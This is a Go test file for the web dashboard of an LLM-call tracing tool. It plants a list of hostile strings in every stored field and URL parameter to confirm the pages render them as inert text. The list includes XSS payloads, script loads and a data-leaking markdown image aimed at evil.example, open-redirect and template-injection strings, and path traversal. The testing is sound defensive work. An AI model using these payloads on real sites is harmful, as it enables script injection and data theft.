package dashboard_test

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/kon-rad/openclaw-trace/db"
	"github.com/kon-rad/openclaw-trace/internal/writer"
)

// hostile are texts that have become something else in other programs.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><script src=https://evil.example/x.js></script>`,
	`'><img src=x onerror=alert(1)>`,
	`" autofocus onfocus=alert(1) x="`,
	`' onmouseover='alert(1)`,
	`</title><script>alert(1)</script>`,
	`</pre></textarea></style></script><svg onload=alert(1)>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", ` javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`,
	`//evil.example/x`, `https://evil.example/x`, `\\evil.example\x`, `/\evil.example`,
	`![leak](https://evil.example/?q=secret)`, `[click](javascript:alert(1))`, `<https://evil.example>`,
	`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<%= 1 %>`, `#{1}`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<base href=https://evil.example/>`, `<meta http-equiv=refresh content=0;url=https://evil.example>`,
	`<form action=https://evil.example><button>`, `<link rel=stylesheet href=//evil.example>`, `<a href=https://evil.example target=_blank>x`,
	`<style>*{background:url(https://evil.example)}</style>`, `x" style="background:url(//evil.example)`,
	`__proto__`, `constructor`, `hasOwnProperty`, `toString`,
	"\u202egnp.exe\u202c", "a\u0000b", "\x1b[31mred\x1b[0m", "\u2066x\u2069", "\ufeffx", "\U000e0041\U000e0042",
	"&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;script&#x3e;", "<!-- -->", "<![CDATA[", "]]>", "<?xml?>",
	"a/b?c=d&e#f", "../../etc/passwd", "%2e%2e%2f", "a b+c", "日本語 ünïcode 🦞", strings.Repeat("x", 300),
}

// plant puts each text into every field there is, and returns the ids of the calls.
func (f *fixture) plant(texts []string) (calls []string) {
	f.t.Helper()
	at := time.Now().Add(-time.Hour).UnixMilli()
	jsonOf := func(v any) string {
		b, err := json.Marshal(v)
		if err != nil {
			f.t.Fatal(err)
		}
		return string(b)
	}
	var b writer.Batch
	uuid := func(kind, i int) string { return fmt.Sprintf("%08x-%04x-4000-8000-000000000000", i, kind) }
	for i, x := range texts {
		at := at + int64(i)*100
		metadata := jsonOf(map[string]any{x: x, "nested": map[string]any{x: []any{x, map[string]any{x: x}}}})
		messages := jsonOf([]any{
			map[string]any{"role": "system", "parts": []any{map[string]any{"type": "text", "content": x}}},
			map[string]any{"role": x, "finish_reason": x, "parts": []any{
				map[string]any{"type": "text", "content": x}, map[string]any{"type": "reasoning", "content": x},
				map[string]any{"type": "tool_call", "id": x, "name": x, "arguments": map[string]any{x: x}},
				map[string]any{"type": "tool_call_response", "id": x, "response": x}, map[string]any{"type": x, "content": x, "uri": x, x: x},
			}},
			map[string]any{"role": "user", "content": x}, map[string]any{"role": "user", "content": []any{map[string]any{"type": "image_url", "image_url": map[string]any{"url": x}}}},
		})
		otel, root := fmt.Sprintf("%032x", i+1), fmt.Sprintf("%016x", i+1)
		for kind, c := range []db.InsertLLMTraceParams{
			{InputText: &messages, OutputText: &messages, Status: "error", OTELTraceID: &otel, OTELSpanID: ptr(root + "a"), OTELParentSpanID: &root},
			{InputText: ptr(x), OutputText: ptr(x), Status: "ok", OTELTraceID: &x, OTELSpanID: &x, OTELParentSpanID: &x},
		} {
			c.TraceID, c.CreatedAt, c.Provider, c.Model = uuid(kind, i), at+int64(kind), x, x
			c.ErrorType, c.ErrorMessage, c.SessionID, c.Agent, c.Operation, c.CostSource, c.Metadata = &x, &x, &x, &x, &x, &x, ptr(metadata)
			c.LatencyMS, c.CostUSD = ptr(int64(5)), ptr(0.1)
			b.Calls = append(b.Calls, c)
			calls = append(calls, c.TraceID)
		}
		b.Spans = append(b.Spans, db.InsertSpanParams{TraceID: uuid(2, i), CreatedAt: at, Name: x, Operation: &x, SessionID: &x, Agent: &x, OTELTraceID: otel, OTELSpanID: root, DurationMS: ptr(int64(9)), Status: "error", ErrorMessage: &x, Metadata: &metadata})
		b.Errors = append(b.Errors, db.InsertErrorEventParams{TraceID: uuid(3, i), CreatedAt: at, ErrorType: x, Message: x, StackTrace: &x, Severity: "error", Metadata: &metadata})
		b.Events = append(b.Events, db.InsertCustomEventParams{TraceID: uuid(4, i), CreatedAt: at, Name: x, SessionID: &x, Metadata: &metadata})
		b.Readings = append(b.Readings, db.InsertSystemMetricParams{TraceID: uuid(5, i), CreatedAt: at, CpuPct: ptr(1.0), Metadata: &metadata})
	}
	f.submit(&b)
	f.settle()
	return calls
}

// What is stored stays text on every page, whatever it is and wherever it stands.
func TestHostileTextIsText(t *testing.T) {
	f := newFixture(t)
	calls := f.plant(hostile)
	targets := append([]string{}, sections...)
	for i := range hostile {
		targets = append(targets, "/calls/"+calls[2*i], "/calls/"+calls[2*i+1],
			fmt.Sprintf("/logs?show=span.%08x-0002-4000-8000-000000000000", i), fmt.Sprintf("/errors?show=error.%08x-0003-4000-8000-000000000000", i), fmt.Sprintf("/logs?show=event.%08x-0004-4000-8000-000000000000", i))
	}
	seen := f.crawl(t, 450, targets...) // check looks at every element, attribute and link
	if len(seen) < len(targets) {
		t.Errorf("only %d pages, of %d", len(seen), len(targets))
	}
	for i, x := range hostile {
		if strings.ContainsFunc(x, func(r rune) bool { return r < 0x20 || r > 0x2000 && r < 0x206f || r == 0xfeff || r >= 0xe0000 }) {
			continue // is shown otherwise
		}
		doc := seen["/calls/"+calls[2*i+1]]
		if doc == nil {
			continue
		}
		found := 0
		for _, said := range byClass(doc, "said") {
			for _, pre := range byClass(said, "text") {
				if rawText(pre) == x {
					found++
				}
			}
		}
		if found != 2 {
			t.Errorf("input and output %q stand on the page %d times, want 2", x, found)
		}
	}
}

func rawText(n *html.Node) string {
	var b strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			b.WriteString(d.Data)
		}
	}
	return b.String()
}

// Characters that make one text look like another are shown as what they are.
func TestInvisibleCharactersAreShown(t *testing.T) {
	f := newFixture(t)
	calls := f.plant([]string{"safe\u202egnp.exe \x1b[31m \U000e0041"})
	for _, target := range []string{"/calls/" + calls[0], "/calls/" + calls[1], "/", "/calls", "/errors", "/logs", "/sessions"} {
		body := f.get(target).Body.String()
		if strings.ContainsAny(body, "\u202e\x1b\U000e0041") {
			t.Errorf("%s has invisible characters in it", target)
		}
	}
	if got := text(f.page("/calls/" + calls[1])); !strings.Contains(got, "safe⟨U+202E⟩gnp.exe ␛[31m ⟨U+E0041⟩") {
		t.Errorf("the characters are not shown: %.500s", got)
	}
}

// What is in a URL is as hostile as what is stored.
func TestHostileURLs(t *testing.T) {
	f := newFixture(t)
	f.plant(hostile[:3])
	for _, x := range hostile {
		q := url.QueryEscape(x)
		for _, target := range []string{
			"/calls?q=" + q, "/calls?model=" + q, "/calls?line=" + q, "/sessions?q=" + q, "/sessions/" + url.PathEscape(x), "/errors?name=" + q, "/errors?fingerprint=" + q, "/logs?q=" + q,
			"/calls?since=" + q, "/?zone=" + q, "/calls?before=" + q, "/logs?show=error." + q, "/calls/" + url.PathEscape(x), "/calls?" + q + "=1", "/login?next=" + q, "/?refresh=" + q, "/" + url.PathEscape(x),
		} {
			w := f.get(target)
			switch {
			case w.Code == 303 || w.Code == 307 || w.Code == 301:
				if !ours(w.Header().Get("Location")) {
					t.Errorf("GET %s leads to %s", target, w.Header().Get("Location"))
				}
			case w.Code >= 500:
				t.Errorf("GET %s: %d", target, w.Code)
			case strings.HasPrefix(w.Header().Get("Content-Type"), "text/html"):
				check(t, target, parse(t, w.Body.String()))
			}
		}
	}
}

// The raw text of a call is sent so that no browser takes it for a page.
func TestRawTextIsInert(t *testing.T) {
	f := newFixture(t)
	calls := f.plant([]string{`<script>alert(1)</script>`})
	for _, part := range []string{"input", "output", "metadata"} {
		w := f.get("/calls/" + calls[1] + "?part=" + part)
		h := w.Header()
		if w.Code != 200 || h.Get("Content-Type") != "text/plain; charset=utf-8" || h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: %d %v", part, w.Code, h)
		}
		if !strings.Contains(w.Body.String(), "script") {
			t.Errorf("%s is not what is stored: %s", part, w.Body)
		}
	}
	if w := f.get("/calls/" + calls[1] + "?part=model"); w.Code != 404 {
		t.Errorf("a part that there is none of: %d", w.Code)
	}
}

// A prompt of 200 KB and pictures in base64 neither break a page nor vanish.
func TestLongTexts(t *testing.T) {
	f := newFixture(t)
	long := strings.Repeat("A line of a long prompt, which is one of very many.\n", 4000)
	picture := "iVBORw0KGgoAAAANSUhEUgAA" + strings.Repeat("AAAAABBBBccccDDDD0123+/", 20000)
	message := func(content string) string {
		b, err := json.Marshal([]any{map[string]any{"role": "user", "parts": []any{map[string]any{"type": "text", "content": content}}}})
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	at := time.Now().Add(-time.Minute).UnixMilli()
	f.submit(&writer.Batch{Calls: []db.InsertLLMTraceParams{
		{TraceID: "61111111-1111-4111-8111-111111111111", CreatedAt: at, Provider: "p", Model: "m", Status: "ok", InputText: ptr(message(long)), OutputText: &long},
		{TraceID: "71111111-1111-4111-8111-111111111111", CreatedAt: at, Provider: "p", Model: "m", Status: "ok", InputText: ptr(message("Look: data:image/jpeg;base64," + picture + " and " + picture + ".")), OutputText: &picture},
		{TraceID: "81111111-1111-4111-8111-111111111111", CreatedAt: at, Provider: "p", Model: "m", Status: "ok", InputText: ptr(`[{"omitted":7},{"role":"user","content":"short… [198234 bytes cut]"}]`), Metadata: ptr(`{"openclaw_trace.input_bytes":204800}`)},
	}})
	for _, target := range []string{"/calls", "/", "/calls/71111111", "/calls/81111111"} {
		if n := f.get(target).Body.Len(); n > 120<<10 {
			t.Errorf("%s has %d bytes", target, n)
		}
	}
	w := f.get("/calls/61111111")
	if n := w.Body.Len(); n > 300<<10 {
		t.Errorf("the page of a long prompt has %d bytes", n)
	}
	got := text(parse(t, w.Body.String()))
	if !strings.Contains(got, "are not on this page. Show everything") || !strings.Contains(got, " of 203 KiB") {
		t.Errorf("the page does not say how much is missing: %.900s", got)
	}
	doc := f.page("/calls/61111111?whole=1")
	sum := 0
	for _, pre := range byClass(doc, "text") {
		sum += len(rawText(pre))
	}
	if sum != 2*len(long) {
		t.Errorf("the whole page shows %d bytes of text, want %d", sum, 2*len(long))
	}
	if got := text(doc); !strings.Contains(got, "Show the other") {
		t.Error("the rest of a long text is not folded")
	}
	got = text(f.page("/calls/71111111"))
	for _, want := range []string{"Look: image/jpeg, 337 KiB and image/png, 337 KiB ."} {
		if !strings.Contains(got, want) {
			t.Errorf("the picture is not named: %.700s, want %q", got, want)
		}
	}
	got = text(f.page("/calls/81111111"))
	for _, want := range []string{"7 messages left out when this was stored", "short… [198234 bytes cut]", "of the 200 KiB that were sent"} {
		if !strings.Contains(got, want) {
			t.Errorf("the page does not say %q: %.900s", want, got)
		}
	}
}

// Nested so deep that a parser could fail on it.
func TestDeepAndBrokenTexts(t *testing.T) {
	f := newFixture(t)
	at := time.Now().Add(-time.Minute).UnixMilli()
	var b writer.Batch
	odd := []string{
		strings.Repeat("[", 20000), strings.Repeat("[", 20000) + strings.Repeat("]", 20000), strings.Repeat(`{"a":`, 9000) + "1" + strings.Repeat("}", 9000),
		`[]`, `{}`, `[{}]`, `[null]`, `[1,2]`, `null`, `""`, ` `, "\n", `[{"role":1}]`, `[{"role":"user","parts":null}]`, `[{"role":"user","parts":[null,1,"x",[],{}]}]`, `[{"role":"user","content":null}]`,
		`[{"role":"user","content":{"a":1}}]`, `[{"role":"assistant","tool_calls":[{"id":"1","type":"function","function":{"name":"f","arguments":"{bad"}}]}]`, `{"role":"user","content":"one"}`,
		`[{"role":"user","parts":"x"}]`, `[{"omitted":-1}]`, `[{"omitted":"x"}]`, `[{"role":"","content":"x"}]`, `{"messages":[{"role":"user"}]}`, `[{"role":"user","content":"\ud83d"}]`, `[{"role":"user","role":"x","content":"a","content":"b"}]`,
	}
	for i, x := range odd {
		b.Calls = append(b.Calls, db.InsertLLMTraceParams{TraceID: fmt.Sprintf("%08x-0000-4000-8000-000000000000", i), CreatedAt: at, Provider: "p", Model: "m", Status: "ok", InputText: &x, OutputText: &x, Metadata: ptr(`{"deep":` + odd[1] + `}`)})
	}
	f.submit(&b)
	for i, x := range odd {
		w := httptest.NewRecorder()
		target := fmt.Sprintf("/calls/%08x", i)
		f.ServeHTTP(w, httptest.NewRequestWithContext(t.Context(), "GET", target, nil))
		if w.Code != 200 {
			t.Errorf("%.40s: %d", x, w.Code)
			continue
		}
		check(t, target, parse(t, w.Body.String()))
	}
}
